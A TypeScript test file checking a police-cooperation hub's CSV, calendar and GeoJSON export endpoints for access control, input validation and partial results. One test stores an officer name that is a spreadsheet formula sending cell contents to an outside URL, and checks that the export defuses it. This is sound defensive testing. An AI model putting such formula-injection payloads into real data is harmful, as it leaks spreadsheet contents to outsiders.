import { dates } from '@hub/shared/graphql';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToken, type Answer, type Asker, type Tree } from '../network/open-hub.js';
import { openNetwork, type OpenNetwork } from '../network/open-network.js';

const secretariat: Asker = { organisation: 'nbnp', role: 'coordinator' };
const denmark: Asker = { organisation: 'dk', role: 'coordinator' };
const analyst: Asker = { organisation: 'se', role: 'analyst' };

describe('GET /export', () => {
  let network: OpenNetwork;
  beforeAll(async () => {
    network = await openNetwork('demonstration', { isGuarded: true });
  });
  afterAll(() => network[Symbol.asyncDispose]());

  const get = async (path: string, asker?: Asker) => {
    const authorization = asker && `Bearer ${await createToken(network.keys, asker)}`;
    const response = await fetch(new URL(`/export/${path}`, network.hubUrl), {
      headers: { ...(authorization && { authorization }) },
    });
    return { status: response.status, headers: response.headers, text: await response.text() };
  };
  const rowsOf = (text: string): Record<string, string>[] => parseCsv(text, { columns: true });
  const refusalOf = ({ status, text }: { status: number; text: string }) => ({
    status,
    ...(JSON.parse(text) as Tree).errors[0].extensions,
  });
  const completenessOf = ({ headers }: { headers: Headers }) =>
    JSON.parse(headers.get('hub-completeness') ?? 'null') as Tree;

  describe('officers.csv', () => {
    /** The officers of all polices as a client of the graph reads them, seven at a time. */
    async function askForAll(asker: Asker): Promise<Tree[]> {
      const query = `query ($after: String) { officers(first: 7, after: $after, filter: { rehearsals: true }) {
        nodes { id name email rank unit { id } targetGroup country languages isRehearsal version }
        pageInfo { hasNextPage endCursor } } }`;
      const all: Tree[] = [];
      for (let after: string | null = null; ;) {
        const { data }: Answer = await network.ask(query, { after }, asker);
        all.push(...data.officers.nodes);
        if (!data.officers.pageInfo.hasNextPage) return all;
        after = data.officers.pageInfo.endCursor;
      }
    }

    it('holds what the graph answers the same reader, of all eight polices', async () => {
      const answer = await get('officers.csv?filter.rehearsals=true', secretariat);
      const officers = await askForAll(secretariat);
      expect(new Set(officers.map(({ country }) => country)).size).toBe(8);
      expect(rowsOf(answer.text)).toEqual(
        officers.map(({ unit, languages, ...officer }) => ({
          ...Object.fromEntries(
            Object.entries(officer).map(([name, value]) => [name, String(value ?? '')]),
          ),
          'unit.id': unit.id,
          languages: languages.join('; '),
        })),
      );
      expect(completenessOf(answer)).toMatchObject({ complete: true });
    });

    it('leaves empty what the reader may not see, and names its columns', async () => {
      const answer = await get('officers.csv?filter.rehearsals=true', denmark);
      for (const { country, name } of rowsOf(answer.text))
        expect([country, name !== ''], country).toEqual([country, country === 'DK']);
      expect(answer.headers.get('hub-withheld')).toBe('name,email,rank');
    });

    it('is for nobody who may not read officers, and for no token that is not good', async () => {
      expect(refusalOf(await get('officers.csv'))).toMatchObject({
        status: 403,
        code: 'FORBIDDEN',
      });
      const headers = { authorization: 'Bearer abc' };
      const response = await fetch(new URL('/export/officers.csv', network.hubUrl), { headers });
      expect(response.status).toBe(401);
      expect(response.headers.get('www-authenticate')).toBe('Bearer');
    });

    it('takes arguments and columns', async () => {
      const path =
        'officers.csv?filter.rehearsals=true&filter.country=FI&columns=id,unit.name,nominations.id';
      const rows = rowsOf((await get(path, secretariat)).text);
      expect(rows.length).toBeGreaterThan(2);
      for (const row of rows) {
        expect(Object.keys(row)).toEqual(['id', 'unit.name', 'nominations.id']);
        expect(row.id).toMatch(/^fi:/);
        expect(row['unit.name']).not.toBe('');
      }
      for (const [search, argument] of [
        ['filter.country=Finland', 'filter.country'],
        ['filter.colour=red', 'filter.colour'],
        ['columns=id,shoeSize', 'columns'],
        [`filter.unit=${'x'.repeat(201)}`, 'filter.unit'],
        [`filter.language=da-x${'-a'.repeat(16)}`, 'filter.language'],
      ]) {
        expect(
          refusalOf(await get(`officers.csv?filter.rehearsals=true&${search}`, secretariat)),
        ).toEqual({
          status: 400,
          code: 'BAD_USER_INPUT',
          argument,
        });
      }
    });

    it('is refused while a police is away, and given without it to who asks for that', async () => {
      await network.stop('no');
      try {
        expect(
          refusalOf(await get('officers.csv?filter.rehearsals=true', secretariat)),
        ).toMatchObject({
          status: 502,
          code: 'PARTNER_UNAVAILABLE',
          partner: 'no',
        });
        const answer = await get('officers.csv?filter.rehearsals=true&partial=true', secretariat);
        const countries = new Set(rowsOf(answer.text).map(({ country }) => country));
        expect([...countries].toSorted()).toEqual(['DK', 'EE', 'FI', 'IS', 'LT', 'LV', 'SE']);
        expect(completenessOf(answer)).toMatchObject({
          complete: false,
          partners: { no: { status: 'UNAVAILABLE' }, se: { status: 'ANSWERED' } },
        });
        const ofDenmark = await get(
          'officers.csv?filter.rehearsals=true&filter.country=DK',
          secretariat,
        );
        expect(ofDenmark.status).toBe(200);
      } finally {
        await network.start('no');
      }
    });
  });

  it('exports every list of the graph, to who may read it', async () => {
    const { data } = await network.ask(
      '{ __schema { queryType { fields { name args { name } type { kind name } } } } }',
    );
    const lists = (data.__schema.queryType.fields as Tree[]).filter(
      ({ type }) => type.kind === 'LIST' || type.name?.endsWith('Connection'),
    );
    expect(lists.length).toBeGreaterThan(15);
    const needed: Readonly<Record<string, string>> = {
      policeDisclosures: '?country=DK',
      policeChanges: '?country=DK',
      policeErasures: '?country=DK',
      policeRetention: '?country=DK',
      policeHolds: '?country=DK',
      networkReadings: '?person=dk:demo-officer-1',
      sharedOfficerContacts: '?with=NETWORK',
      sharedDelegateContacts: '?with=NETWORK',
      contactPaths: '?from=ncm:led&to=nbnp:nbnp',
    };
    for (const { name } of lists) {
      const answer = await get(`${name}.csv${needed[name] ?? ''}`, secretariat);
      if (answer.status === 200) expect(rowsOf(answer.text), name).toBeInstanceOf(Array);
      else expect(refusalOf(answer), name).toMatchObject({ status: 403, code: 'FORBIDDEN' });
    }
    expect(refusalOf(await get('office.csv', secretariat))).toEqual({
      status: 404,
      code: 'NOT_FOUND',
    });
  });

  it('hands no formula to a spreadsheet, whoever wrote it into the graph', async () => {
    const name = '=HYPERLINK("https://example.org/?"&A1)';
    const register = `mutation ($input: RegisterOfficerInput!) { registerOfficer(input: $input) { id } }`;
    const unit = (await network.ask('{ policeUnits(filter: { country: "DK" }) { id } }')).data;
    const input = { unit: unit.policeUnits[0].id, name, targetGroup: 'POLICE', languages: ['da'] };
    const { data, errors } = await network.ask(register, { input }, denmark);
    expect(errors).toBeUndefined();
    const { text } = await get(
      'officers.csv?filter.rehearsals=true&filter.country=DK&columns=id,name',
      denmark,
    );
    const row = rowsOf(text).find(({ id }) => id === data.registerOfficer.id);
    expect(row?.name).toBe(`'${name}`);
  });

  it('tells contacts by the parties and events that they are between', async () => {
    const [row] = rowsOf((await get('contacts.csv?minimum=1&columns=strength,parties.id')).text);
    expect(row?.['parties.id']).toMatch(/^\w+:[^;]+; \w+:[^;]+$/);
  });

  describe('itinerary.ics', () => {
    const query =
      'query ($id: ID!) { visit(id: $id) { id title startsOn endsOn stops { id title day from to } } }';

    it('cancels a stop that was called off, and says where the group is met', async () => {
      const { text } = await get('itinerary.ics?id=nbnp:demo-visit-2', secretariat);
      const [stop] = new ICAL.Component(ICAL.parse(text) as never)
        .getAllSubcomponents('vevent')
        .map((event) => new ICAL.Event(event))
        .filter(({ uid }) => uid.startsWith('nbnp:demo-stop-2-6@'));
      expect(stop?.component.getFirstPropertyValue('status')).toBe('CANCELLED');
      expect(stop?.sequence).toBe(2);
      expect(stop?.description.split('\n')).toEqual([
        'Meeting point: Demonstration: the main entrance',
        'Contact: Demonstration: the reception, +000 000 0001',
        'Cancelled: Demonstration: the centre is closed on that day.',
      ]);
    });

    it('is the visit’s itinerary, as any calendar reads it', async () => {
      const id = 'nbnp:demo-visit-1';
      const answer = await get(`itinerary.ics?id=${id}`, secretariat);
      expect(answer.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
      const { visit } = (await network.ask(query, { id }, secretariat)).data;
      const calendar = new ICAL.Component(ICAL.parse(answer.text) as never);
      const events = calendar.getAllSubcomponents('vevent').map((event) => new ICAL.Event(event));
      expect(calendar.getFirstPropertyValue('name')).toBe(`Rehearsal: ${visit.title}`);
      expect(
        events.map(({ uid, summary, startDate, endDate }) => ({
          uid,
          title: summary,
          start: startDate.toString(),
          end: endDate.toString(),
        })),
      ).toEqual([
        ...[
          ['', visit.title, visit.startsOn, visit.endsOn],
          ['/departure', `Departure: ${visit.title}`, visit.startsOn, visit.startsOn],
          ['/return', `Return: ${visit.title}`, visit.endsOn, visit.endsOn],
        ].map(([part, title, start, last]) => ({
          uid: `${visit.id}${part}@cooperation-hub`,
          title: `Rehearsal: ${title}`,
          start,
          end: dates.addDays(last, 1),
        })),
        ...(visit.stops as Tree[]).map((stop) => ({
          uid: `${stop.id}@cooperation-hub`,
          title: `Rehearsal: ${stop.title}`,
          start: `${stop.day}T${stop.from}:00`,
          end: `${stop.day}T${stop.to}:00`,
        })),
      ]);
    });

    it('is for those who may read the itinerary', async () => {
      const path = 'itinerary.ics?id=nbnp:demo-visit-5';
      const refused = { status: 403, code: 'FORBIDDEN' };
      expect(refusalOf(await get(path))).toMatchObject(refused);
      expect(refusalOf(await get(path, analyst))).toMatchObject(refused);
      const ended = await get('itinerary.ics?id=nbnp:demo-visit-4', analyst);
      expect(ended.status).toBe(200);
    });

    it('cancels the visit and every stop when the group is cancelled', async () => {
      const id = 'nbnp:demo-visit-5';
      const plan =
        'query ($id: ID!) { visit(id: $id) { version group { id version } stops { version } } }';
      const { visit } = (await network.ask(plan, { id }, secretariat)).data;
      const { id: group, version } = visit.group;
      const input = { group, on: '2010-01-01', reason: 'No bus.', version };
      const cancel = 'mutation ($input: CancelGroupInput!) { cancelGroup(input: $input) { id } }';
      expect((await network.ask(cancel, { input }, secretariat)).errors).toBeUndefined();
      const { text } = await get(`itinerary.ics?id=${id}`, secretariat);
      expect(text.match(/(?<=^STATUS:CANCELLED\r\nSEQUENCE:)\d+/gm)).toEqual(
        [visit, visit, visit, ...(visit.stops as Tree[])].map(({ version }) => `${version + 1}`),
      );
    });

    it('is NOT_FOUND where there is no such visit', async () => {
      expect(refusalOf(await get('itinerary.ics?id=nbnp:no-such', secretariat))).toMatchObject({
        status: 404,
        code: 'NOT_FOUND',
      });
      expect(refusalOf(await get('itinerary.ics', secretariat))).toMatchObject({
        status: 400,
        argument: 'id',
      });
    });
  });

  describe.each([
    ['sites.geojson', '{ nationalSites { id city } regionalSites { id city } }'],
    ['offices.geojson', '{ offices { id city } }'],
  ])('%s', (path, query) => {
    it('places every record whose city is known, and no other', async () => {
      const answer = await get(path);
      expect(answer.headers.get('content-type')).toBe('application/geo+json');
      const { type, features } = JSON.parse(answer.text) as Tree;
      expect(type).toBe('FeatureCollection');
      const records = Object.values((await network.ask(query)).data).flat() as Tree[];
      const placed = (features as Tree[]).map((feature) => {
        expect(feature).toMatchObject({
          type: 'Feature',
          properties: { name: expect.any(String) },
        });
        if (feature.geometry === null) return { id: feature.id, isPlaced: false };
        const [longitude, latitude, ...more] = feature.geometry.coordinates;
        expect([feature.geometry.type, more, feature.properties.precision]).toEqual([
          'Point',
          [],
          'city',
        ]);
        // The countries around the Baltic, and the north-west of Russia.
        expect(longitude > 8 && longitude < 45 && latitude > 53 && latitude < 71).toBe(true);
        return { id: feature.id, isPlaced: true };
      });
      expect(placed).toEqual(records.map(({ id, city }) => ({ id, isPlaced: city !== null })));
    });
  });
});
